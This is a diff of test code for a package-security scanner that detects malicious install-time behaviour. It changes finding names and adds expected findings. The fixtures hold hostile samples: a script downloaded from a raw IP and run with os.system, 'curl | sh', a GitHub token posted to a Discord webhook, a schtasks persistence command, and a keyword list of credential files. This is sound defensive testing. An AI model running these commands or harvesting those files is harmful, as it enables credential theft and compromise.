@@ -230,15 +230,21 @@ os.system("sh /tmp/x.sh")
             for f in findings(source, INSTALL)] == [
         ("install-script", Severity.MEDIUM, "setup:urllib.request.urlretrieve", 26,
          "Calls urllib.request.urlretrieve from code that runs when the package is installed."),
-        ("install-network", Severity.CRITICAL, "urllib.request.urlretrieve", 26,
+        ("install-time-payload", Severity.CRITICAL, "urllib.request.urlretrieve", 26,
          "Makes an HTTP request with urllib.request.urlretrieve while the package is "
          "installed."),
         ("suspicious-url", Severity.HIGH, "url:45.77.10.3", 26,
          "Refers to a raw IP address (45.77.10.3)."),
         ("install-script", Severity.MEDIUM, "setup:os.system", 27,
          "Calls os.system from code that runs when the package is installed."),
-        ("install-network", Severity.CRITICAL, "os.system", 27,
+        ("install-process", Severity.LOW, "os.system", 27,
          "Starts a shell command with os.system while the package is installed."),
+        ("download-exec", Severity.CRITICAL, "os.system", 27,
+         "Downloads `http://45.77.10.3/x.sh` (setup.py:26), writes it to `/tmp/x.sh` "
+         "(setup.py:26) and runs it with `os.system` (setup.py:27)."),
+        ("install-time-payload", Severity.CRITICAL, "install:download-exec", 27,
+         "Runs on install: downloads `http://45.77.10.3/x.sh` (setup.py:26), writes it to "
+         "`/tmp/x.sh` (setup.py:26) and runs it with `os.system` (setup.py:27)."),
     ]
 
 
@@ -278,7 +284,7 @@ def test_install_time_mapping_is_role_dependent() -> None:
     assert rows(source, INSTALL) == [
         ("install-script", "setup:subprocess.check_call", 2,
          "Calls subprocess.check_call from code that runs when the package is installed."),
-        ("install-network", "subprocess.check_call", 2,
+        ("install-process", "subprocess.check_call", 2,
          "Starts a process with subprocess.check_call while the package is installed."),
     ]
 
@@ -484,12 +490,12 @@ def test_version_exec_idiom_in_setup_py_is_low() -> None:
     ]
 
 
-def test_python2_setup_py_still_maps_to_install_network() -> None:
+def test_python2_setup_py_still_maps_to_install_time_payload() -> None:
     source = b"import os\nprint 'installing'\nos.system('curl http://x | sh')\n"
     result = analyze(source, INSTALL)
     assert result.parsed is False
     assert [(f.type.value, f.severity, f.api, f.line, f.reason) for f in result.findings] == [
-        ("install-network", Severity.CRITICAL, "os.system", 3,
+        ("install-time-payload", Severity.CRITICAL, "os.system", 3,
          "Starts a shell command with os.system while the package is installed."),
     ]
 
@@ -540,7 +546,8 @@ def test_every_path_rule_has_a_keyword() -> None:
         "~/.kube/config": "~/.kube/config", "~/.docker/config.json": "~/.docker/config.json",
         "~/.npmrc": "~/.npmrc", "~/.pypirc": "~/.pypirc", "~/.netrc": "~/.netrc",
         "~/.git-credentials": "~/.git-credentials", "~/.gnupg": "~/.gnupg/",
-        "browser:chromium": "Google\\Chrome\\User Data", "browser:firefox": "logins.json",
+        "~/.pgpass": "~/.pgpass", "browser:chromium": "Google\\Chrome\\User Data",
+        "browser:firefox": "logins.json",
         "wallet": "wallet.dat", "discord-token": "discord\\Local Storage\\leveldb",
         "telegram": "Telegram Desktop\\tdata", "/etc/passwd": "/etc/shadow",
         "keychain": "~/Library/Keychains/login.keychain-db",
@@ -574,6 +581,10 @@ def test_names_bound_to_constants_are_folded() -> None:
          "Reads the GITHUB_TOKEN environment variable."),
         ("shell", "subprocess.run", 8, "*",
          "Starts a shell command with subprocess.run(shell=True)."),
+        ("exfiltration", "exfiltration:requests.post", 5, "secret",
+         "Reads the secret `GITHUB_TOKEN` from the environment (pkg/mod.py:5) and sends it to "
+         "a webhook endpoint (`https://discord.com/api/webhooks/1/x`) with `requests.post` "
+         "(pkg/mod.py:5)."),
     ]
 
 
@@ -583,4 +594,7 @@ def test_persistence_commands_are_system_hooks() -> None:
         ("shell", "subprocess.call", 2, "Starts a process with subprocess.call."),
         ("system-hooks", "command:schtasks", 2,
          "Installs a scheduled or startup task by running schtasks."),
+        ("persistence", "persistence:command", 2,
+         "Registers a start-up task with `subprocess.call` (`schtasks /create /tn u`) "
+         "(pkg/mod.py:2)."),
     ]
